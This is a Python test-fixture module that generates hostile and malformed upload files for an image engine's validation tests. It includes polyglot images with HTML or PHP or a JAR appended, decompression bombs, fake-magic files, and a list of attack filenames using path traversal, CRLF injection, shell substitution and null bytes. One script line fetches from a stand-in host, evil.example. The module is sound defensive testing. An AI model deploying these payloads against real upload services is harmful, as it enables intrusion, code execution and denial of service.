"""Files that strangers send: what each is, and what it may hide; all generated here."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from PIL import ExifTags, Image, PngImagePlugin

SAMPLES = Path(__file__).parents[1] / "local/samples"
# In the hidden part of each file that has one; no result may hold it.
PAYLOAD = b"zq7payload"
HTML = b"<!doctype html><script>fetch('//evil.example/" + PAYLOAD + b"')</script>"
PHP = b"<?php system('" + PAYLOAD + b"'); ?>"
GPS = (59.0, 56.0, 4.0)


def picture(side: int = 96) -> Image.Image:
    """A photo small enough to be processed quickly."""
    with Image.open(SAMPLES / "portrait.jpg") as photo:
        return photo.convert("RGB").resize((side, side * 4 // 3))


def saved(kind: str, image: Image.Image | None = None, **options: object) -> bytes:
    """A picture as a file of this kind."""
    out = io.BytesIO()
    (image or picture()).save(out, kind, **options)
    return out.getvalue()


def archive() -> bytes:
    """A JAR, which a Java runtime runs wherever in a file it begins."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as jar:
        jar.writestr("META-INF/MANIFEST.MF", PAYLOAD)
    return out.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    mark = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + mark


def png(width: int, height: int, *more: bytes) -> bytes:
    """A PNG that claims to be so large, with hardly any pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(b"\0" * 64))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + pixels + chunk(b"IEND", b"")


def after_head(photo: bytes, part: bytes) -> bytes:
    """A PNG with one more chunk."""
    return photo[:33] + part + photo[33:]


def located(orientation: int) -> bytes:
    """A JPEG with the place, the author and an orientation in its EXIF."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Artist] = PAYLOAD.decode()
    exif[ExifTags.Base.ImageDescription] = PAYLOAD.decode()
    place = exif.get_ifd(ExifTags.IFD.GPSInfo)
    place[ExifTags.GPS.GPSLatitudeRef], place[ExifTags.GPS.GPSLatitude] = "N", GPS
    return saved("JPEG", exif=exif.tobytes())


def text_chunks() -> PngImagePlugin.PngInfo:
    """Text inside a PNG."""
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", PAYLOAD.decode())
    words.add_itxt("XML:com.adobe.xmp", PAYLOAD.decode(), zip=True)
    return words


def animated(kind: str) -> bytes:
    """An animation of three pictures."""
    more = [picture().rotate(90 * turn) for turn in (1, 2)]
    return saved(kind, save_all=True, append_images=more, duration=100)


def _sample(name: str) -> Callable[[], bytes]:
    return (SAMPLES / name).read_bytes


# name: generator, content type it is accepted as ("" when refused at the door), and the engine's
# error code, None for a result.
FILES: dict[str, tuple[Callable[[], bytes], str, str | None]] = {
    "a photo": (lambda: saved("JPEG"), "image/jpeg", None),
    "PNG with a page behind it": (lambda: saved("PNG") + HTML, "image/png", None),
    "JPEG with a program behind it": (lambda: saved("JPEG") + archive(), "image/jpeg", None),
    "JPEG with PHP in a comment": (lambda: saved("JPEG", comment=PHP), "image/jpeg", None),
    "JPEG without an end": (lambda: saved("JPEG", progressive=True)[:-2], "image/jpeg", None),
    "PNG with words": (lambda: saved("PNG", pnginfo=text_chunks()), "image/png", None),
    "PNG with a chunk of nobody's": (
        lambda: after_head(saved("PNG"), chunk(b"zqPL", HTML)),
        "image/png",
        None,
    ),
    "PNG with a wrong checksum": (
        lambda: after_head(saved("PNG"), chunk(b"iCCP", PAYLOAD)[:-4] + b"oops"),
        "image/png",
        None,
    ),
    "WebP with a page behind it": (lambda: saved("WEBP") + HTML, "image/webp", None),
    "WebP that moves": (lambda: animated("WEBP"), "image/webp", None),
    "PNG that moves": (lambda: animated("PNG"), "image/png", None),
    "AVIF": (lambda: saved("AVIF"), "image/avif", None),
    **{
        f"JPEG with a place, orientation {way}": (
            lambda way=way: located(way),
            "image/jpeg",
            None,
        )
        for way in (1, 6, 8, 99)
    },
    "bomb of words": (
        lambda: after_head(saved("PNG"), chunk(b"zTXt", b"a\0\0" + zlib.compress(b"a" * 10**8, 9))),
        "image/png",
        None,
    ),
    "bomb of a colour profile": (
        lambda: after_head(saved("PNG"), chunk(b"iCCP", b"a\0\0" + zlib.compress(b"a" * 10**8, 9))),
        "image/png",
        None,
    ),
    "JPEG cut short": (lambda: saved("JPEG")[:900], "image/jpeg", "image_truncated"),
    "GIF": (lambda: saved("GIF"), "", "image_format_unsupported"),
    "GIF with a program behind it": (
        lambda: saved("GIF") + archive(),
        "",
        "image_format_unsupported",
    ),
    "page with a photo behind it": (lambda: HTML + saved("JPEG"), "", "not_an_image"),
    "page named photo": (_sample("bad_html_named.jpg"), "", "not_an_image"),
    "SVG": (
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        "",
        "not_an_image",
    ),
    "SVG of XML": (
        lambda: b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a 'x'>]><svg/>",
        "",
        "not_an_image",
    ),
    "PDF": (lambda: b"%PDF-1.7\n1 0 obj<</JavaScript 1>>", "", "not_an_image"),
    "PDF with a photo behind it": (lambda: b"%PDF-1.4\n" + saved("JPEG"), "", "not_an_image"),
    "PostScript": (
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
        "",
        "not_an_image",
    ),
    "ZIP": (archive, "", "not_an_image"),
    "wrong magic": (lambda: b"\x88" + saved("PNG")[1:], "", "not_an_image"),
    "one byte": (lambda: b"\xff", "", "not_an_image"),
    "only magic of JPEG": (lambda: b"\xff\xd8\xff", "", "not_an_image"),
    "only magic of PNG": (lambda: b"\x89PNG\r\n\x1a\n", "", "not_an_image"),
    "only magic of WebP": (lambda: b"RIFF\x40\0\0\0WEBPVP8 ", "", "not_an_image"),
    "only magic of HEIC": (
        lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
        "",
        "not_an_image",
    ),
    "PHP named JPEG": (
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + PHP,
        "",
        "not_an_image",
    ),
    "PNG cut short": (lambda: saved("PNG")[:3000], "", "image_truncated"),
    "WebP cut short": (lambda: saved("WEBP")[:300], "", "image_truncated"),
    "bomb of 20000 x 20000": (_sample("bad_bomb_20000x20000.png"), "", "image_too_large"),
    "huge by its word": (lambda: png(2**31 - 1, 2**31 - 1), "", "image_too_large"),
    "one line of a million": (lambda: png(10**6, 64), "", "image_too_large"),
    "no width": (lambda: png(0, 100), "", "not_an_image"),
    "no size at all": (lambda: png(0, 0), "", "not_an_image"),
    "too small": (lambda: png(63, 63), "", "image_too_small"),
    "too narrow": (lambda: png(64, 1000), "", "image_too_narrow"),
}
TAKEN = [name for name, (_, kind, _) in FILES.items() if kind]
REFUSED = [name for name, (_, kind, _) in FILES.items() if not kind]


@cache
def content(name: str) -> bytes:
    """The bytes of one of FILES."""
    return FILES[name][0]()


NAMES = [
    "../../../../tmp/zq7name",
    "..\\..\\..\\zq7name.exe",
    "/etc/cron.d/zq7name",
    "C:\\Windows\\zq7name.dll",
    "\\\\evil.example\\share\\zq7name",
    "file:///tmp/zq7name",
    "%2e%2e%2f%2e%2e%2fzq7name",
    "..%c0%afzq7name",
    "CON",
    "NUL.jpg",
    "aux.jpg.",
    "zq7name\u202egpj.exe",
    "zq7name.jpg\x00.php",
    "zq7name\r\nX-Injected: yes",
    'zq7name"; filename="other',
    "$(touch zq7name)`touch zq7name`;|&",
    "~root/zq7name",
    ".",
    "..",
    ".htaccess",
    "-rf zq7name",
    "ф" * 120,
    "a" * 5000,
]
